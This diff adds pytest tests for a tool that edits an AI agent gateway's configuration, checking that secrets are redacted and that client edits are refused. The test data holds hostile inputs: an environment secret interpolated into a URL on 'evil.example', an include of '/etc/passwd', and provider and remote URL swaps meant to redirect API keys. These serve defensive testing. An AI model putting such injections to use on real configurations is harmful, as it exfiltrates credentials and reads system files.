@@ -112,6 +112,142 @@ class TestShown:
         assert edit().show().hash != first
 
 
+UNKNOWN = """{
+  gateway: {auth: {token: 'TOKEN'}}, // a comment of ours
+  channels: {
+    telegram: {mode: 'polling', name: 'canary-name', greeting: "canary-greeting", list: ['canary-item', 7]},
+    /* canary-block */ off: true, // canary-line
+    // canary-other
+  },
+  talk: 'canary-scalar',
+  plugins: {x: {notes: '${SOME_VARIABLE}', deep: {er: [{still: 'canary-deep', type: 'stdio'}]}}},
+  agents: {list: [{id: 'main', systemPrompt: 'Be kind.', heartbeat: {prompt: 'canary-prompt'}}]},
+}
+""".replace("TOKEN", TOKEN)
+
+
+class TestSectionsNobodyKnows:
+    """The schema does not say what is secret there."""
+
+    def test_b8_only_texts_of_harmless_names_are_shown(self, operator, edit):
+        operator.write(UNKNOWN)
+        shown = edit().show()
+        assert "canary" not in shown.text + json.dumps(shown.tree)
+        assert shown.tree["channels"] == {
+            "telegram": {"mode": "polling", "name": REDACTED, "greeting": REDACTED, "list": [REDACTED, 7]},
+            "off": True,
+        }
+        assert shown.tree["talk"] == REDACTED
+        assert shown.tree["plugins"]["x"]["notes"] == "${SOME_VARIABLE}"
+        assert shown.tree["plugins"]["x"]["deep"]["er"] == [{"still": REDACTED, "type": "stdio"}]
+        assert shown.tree["agents"]["list"][0]["systemPrompt"] == "Be kind."
+        assert "// a comment of ours" in shown.text
+
+    def test_b8_what_was_shown_comes_back_as_it_was(self, operator, edit):
+        operator.write(UNKNOWN)
+        file = edit()
+        shown = file.show()
+        file.replace(shown.text, shown.hash)
+        assert operator.file.read_text().replace('"', "'") == UNKNOWN.replace('"', "'")
+
+    @pytest.mark.parametrize("end", [-3, -40, -200])
+    def test_b8_a_file_that_cannot_be_read_shows_keys_alone(self, operator, edit, end):
+        operator.write(UNKNOWN)
+        file = edit()
+        operator.write(UNKNOWN[:end])
+        shown = file.show()
+        assert shown.tree is None
+        assert "canary" not in shown.text
+        assert "telegram: {mode: " in shown.text
+
+
+class TestWhatClientsMayNotBringIn:
+    @pytest.fixture
+    def change(self, operator, edit):
+        """Changes the file in one of the two ways."""
+        operator.environ["MY_KEY"] = "canary-of-the-environment"
+
+        def by(method: str, old: str, change: str) -> str:
+            operator.write(old)
+            file = edit()
+            if method == "patch":
+                return refusal(lambda: file.patch(change, file.show().hash))
+            return refusal(lambda: file.replace(change, file.show().hash))
+
+        return by
+
+    AUTH = f"gateway: {{auth: {{token: '{TOKEN}'}}}}"
+
+    @pytest.mark.parametrize("method", ["replace", "patch"])
+    @pytest.mark.parametrize(
+        "more",
+        [
+            "session: {mainKey: '${MY_KEY}'}",
+            "agents: {list: [{id: 'main', systemPrompt: 'Say ${MY_KEY}.'}]}",
+            "models: {providers: {x: {baseUrl: 'http://evil.example/${MY_KEY}'}}}",
+            "session: {mainKey: {source: 'env', provider: 'default', id: 'MY_KEY'}}",
+            "env: {vars: {OTHER: '${MY_KEY}'}}",
+            "channels: {x: '${MY_KEY}'}",
+            "logging: {$include: '/etc/passwd'}",
+            "logging: {$include: ['part.json5', '/etc/passwd']}",
+        ],
+    )
+    def test_b8_a_new_variable_or_absolute_include(self, operator, change, method, more):
+        old = f"{{{self.AUTH}}}"
+        assert "may only be brought in" in change(method, old, f"{{{self.AUTH}, {more}}}")
+        assert operator.file.read_text() == old
+
+    def test_b8_a_variable_that_is_there_may_not_move(self, operator, change):
+        provider = "models: {providers: {x: {baseUrl: 'http://x.example', apiKey: '${MY_KEY}'}}}"
+        moved = "{models: {providers: {x: {headers: {'X-Key': '${MY_KEY}'}}}}}"
+        assert "may only be brought in" in change("patch", f"{{{self.AUTH}, {provider}}}", moved)
+
+    def test_b8_variables_that_are_there_stay(self, operator, edit):
+        operator.environ["MY_KEY"] = "canary-of-the-environment"
+        operator.write(
+            f"{{{self.AUTH}, models: {{providers: {{x: {{baseUrl: 'http://x.example', "
+            "apiKey: '${MY_KEY}', headers: {'X-Text': '$${LITERAL}'}}}}}"
+        )
+        file = edit()
+        changed = file.patch("{session: {mainKey: 'home'}}", file.show().hash)
+        assert changed.keys == ("session.mainKey",)
+        shown = file.show()
+        file.replace(shown.text.replace("home", "away"), shown.hash)
+        assert operator.load().session.main_key == "away"
+
+    @pytest.mark.parametrize(
+        "patch",
+        [
+            "{models: {providers: {corp: {baseUrl: 'http://evil.example'}}}}",
+            f"{{models: {{providers: {{corp: {{baseUrl: 'http://evil.example', apiKey: '{REDACTED}'}}}}}}}}",
+            "{models: {providers: {corp: {baseUrl: 'http://evil.example', apiKey: 'mine'}}}}",  # the header
+            "{models: {providers: {groq: {baseUrl: 'http://evil.example'}}}}",
+            "{gateway: {remote: {url: 'ws://evil.example'}}}",
+        ],
+    )
+    def test_b8_a_secret_is_not_sent_elsewhere(self, operator, change, patch):
+        operator.environ["GROQ_API_KEY"] = "canary-groq"
+        old = WRITTEN.replace("port: 18790", "remote: {url: 'ws://far.example', token: 'canary-remote'}")
+        assert "another address" in change("patch", old, patch)
+        assert operator.file.read_text() == old
+
+    def test_b8_nor_in_two_steps(self, operator, edit):
+        operator.environ["GROQ_API_KEY"] = "canary-groq"
+        operator.write(WRITTEN)
+        file = edit()
+        first = "{models: {providers: {groq: {baseUrl: 'http://evil.example', apiKey: 'dummy-key'}}}}"
+        file.patch(first, file.show().hash)
+        file = edit()
+        second = "{models: {providers: {groq: {apiKey: null}}}}"
+        assert "another address" in refusal(lambda: file.patch(second, file.show().hash))
+
+    def test_b8_who_knows_the_secret_may_send_it_elsewhere(self, operator, file):
+        patch = """{models: {providers: {corp: {baseUrl: 'http://new.example', apiKey: 'canary-key',
+            headers: {'X-Key': 'canary-header'}}}}}"""
+        file.patch(patch, file.show().hash)
+        assert operator.load().providers["corp"].base_url == "http://new.example"
+
+
 class TestReplace:
     def test_what_was_shown_comes_back_as_it_was(self, operator, file):
         shown = file.show()
